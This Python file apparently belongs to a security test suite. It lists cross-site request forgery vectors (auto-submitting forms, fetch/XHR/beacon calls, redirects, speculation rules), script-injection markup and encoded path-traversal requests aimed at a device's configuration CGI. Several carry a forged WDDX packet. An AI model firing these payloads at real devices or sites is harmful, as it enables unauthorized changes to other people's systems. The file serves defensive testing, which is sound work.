"""By which an attacker's page, or an attacker's text in a page of the device, makes a browser ask: each way by its
name. {u} is the address that is asked, in scripts within single quotes. Of the ways that make a browser send requests
with the same method and headers, so that a web server cannot tell them apart, one stands here."""

HARM = "document.title='harm'"
WDDX = (
    "<?xml version='1.0' encoding='UTF-8'?><!DOCTYPE wddxPacket SYSTEM "
    "'http://www.openwddx.org/downloads/dtd/wddx_dtd_10.txt'><wddxPacket version='1.0'><header/>"
    "<data><struct><var name='DeviceOwner'><string>EVIL</string></var>"
    "<var name='IfhClientIpAddr'><string>127.0.0.1</string></var></struct></data></wddxPacket>"
)
WDDX_IN_SCRIPT = WDDX.replace("'", "\\'")


# --- What foreign pages try

def form(encoding, fields=(("CanDetectTimeout", "evil"), ("allocation", "allocate"))):
    inputs = "".join(f'<input type=hidden name="{name}" value="{value}">' for name, value in fields)
    return (f"<form action='{{u}}' method=post enctype='{encoding}'>{inputs}</form>"
            "<script>document.forms[0].submit()</script>")


def form_of_text():
    """It sends NAME=VALUE: a whole packet, cut at its first sign of that kind."""
    return form("text/plain", [WDDX.split("=", 1)])


def speculation(kind, more=""):
    rule = '{"source":"list","urls":["{u}"],"eagerness":"immediate"' + more + "}"
    return f'<script type=speculationrules>{{"{kind}":[{rule}]}}</script>'


# Parts of one page; each script on its own: what fails hinders no other.
PARTS = {
    "img": "<img src='{u}'>",
    "img-no-referrer": "<img referrerpolicy=no-referrer src='{u}'>",
    "img-anonymous": "<img crossorigin=anonymous src='{u}'>",
    "css-background": "<i style=\"display:block;width:9px;height:9px;background:url('{u}')\"></i>",
    "stylesheet": "<link rel=stylesheet href='{u}'>",
    "script": "<script src='{u}'></script>",
    "video": "<video src='{u}' preload=auto></video>",
    "embed": "<embed src='{u}'>",
    "object": "<object data='{u}'></object>",
    "iframe": "<iframe src='{u}'></iframe>",
    "prefetch": "<link rel=prefetch href='{u}'>",
    "prefetch-document": "<link rel=prefetch as=document href='{u}'>",
    "speculation-prefetch": speculation("prefetch"),
    "speculation-prefetch-no-referrer": speculation("prefetch", ',"referrer_policy":"no-referrer"'),
    "speculation-prerender": speculation("prerender"),
    "ping": "<a ping='{u}' href='#'>x</a><script>document.currentScript.previousSibling.click()</script>",
    **{name: f"<script>{text}</script>" for name, text in {
        "fetch": "fetch('{u}')",
        "fetch-no-cors": "fetch('{u}',{mode:'no-cors'})",
        "fetch-head": "fetch('{u}',{mode:'no-cors',method:'HEAD'})",
        "fetch-put": "fetch('{u}',{method:'PUT',body:'x'})",
        "fetch-post": f"fetch('{{u}}',{{mode:'no-cors',method:'POST',body:'{WDDX_IN_SCRIPT}'}})",
        "fetch-post-form": "fetch('{u}',{mode:'no-cors',method:'POST',body:new URLSearchParams("
        "'CanDetectTimeout=evil&allocation=allocate')})",
        "xhr-post": "{let x=new XMLHttpRequest();x.open('POST','{u}');" f"x.send('{WDDX_IN_SCRIPT}')}}",
        "beacon-empty": "navigator.sendBeacon('{u}')",
        "websocket": "new WebSocket('{u}'.replace('http','ws'))",
        "worker-module": "new Worker(URL.createObjectURL(new Blob([`import '{u}'`],{type:'text/javascript'})),"
        "{type:'module'})",
    }.items()},
}
# What loopback is enough for: by http to other addresses the browser sends it nowhere.
UNSENT_BY_HTTP = {"speculation-prefetch", "speculation-prefetch-no-referrer"}

# Documents of their own. They are tried in a frame, and as a page.
DOCUMENTS = {
    "location": "<script>location='{u}'</script>",
    "location-no-referrer": "<meta name=referrer content=no-referrer><script>location='{u}'</script>",
    "form-post": form(""),
    "form-multipart": form("multipart/form-data"),
    "form-text": form_of_text(),
    "form-text-no-referrer": "<meta name=referrer content=no-referrer>" + form_of_text(),
}
# Answers of the foreign server, as a page, in a frame and as a picture.
ANSWERS = {
    "redirect": (302, "Location", "{u}"),
    "redirect-by-method": (307, "Location", "{u}"),
    "refresh-header": (200, "Refresh", "0;url={u}"),
    "link-header": (200, "Link", "<{u}>; rel=preload; as=image"),
    "csp-report": (200, "Content-Security-Policy", "img-src 'none'; report-uri {u}"),
}


# --- What the page is made to echo: it asks the device itself for a change, or a foreign server. One or two ways for
# each line of the policy

MARKUP = {
    **{name: PARTS[name] for name in (
        "img", "stylesheet", "script", "video", "embed", "object", "iframe", "prefetch", "css-background",
        "speculation-prerender")},
    "style-import": "<style>@import '{u}';</style>",
    "preload-fetch": "<link rel=preload as=fetch crossorigin href='{u}'>",
    "modulepreload": "<link rel=modulepreload href='{u}'>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url={u}'>",
    "meta-csp": "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src='{u}'>",
    "iframe-srcdoc": f"<iframe srcdoc=\"<img src='{{u}}'><script>parent.{HARM}</script>\"></iframe>",
    "iframe-javascript": f'<iframe src="javascript:parent.{HARM}"></iframe>',
    "iframe-data": "<iframe src=\"data:text/html,<img src='{u}'>\"></iframe>",
    "script-inline": f"<script>{HARM}</script>",
    "svg-onload": f'<svg onload="{HARM}"></svg>',
    "img-onerror": f"<img src='/images/nowhere.gif' onerror=\"{HARM}\">",
    "base": "<base href='{u}'><img src='x.gif'>",
}
# Only where they are echoed: a folder that leads on, which web servers decode; and what shows without scripts.
ECHOED = {
    "img-encoded-folder": "<img src='/images/..%2fsetobdconf.cgi?CanDetectTimeout=evil'>",
    "style-encoded-folder": "<link rel=stylesheet href='/css/..%2fsetobdconf.cgi?CanDetectTimeout=evil'>",
    "noscript": "<noscript><img src='{u}'></noscript>",
}
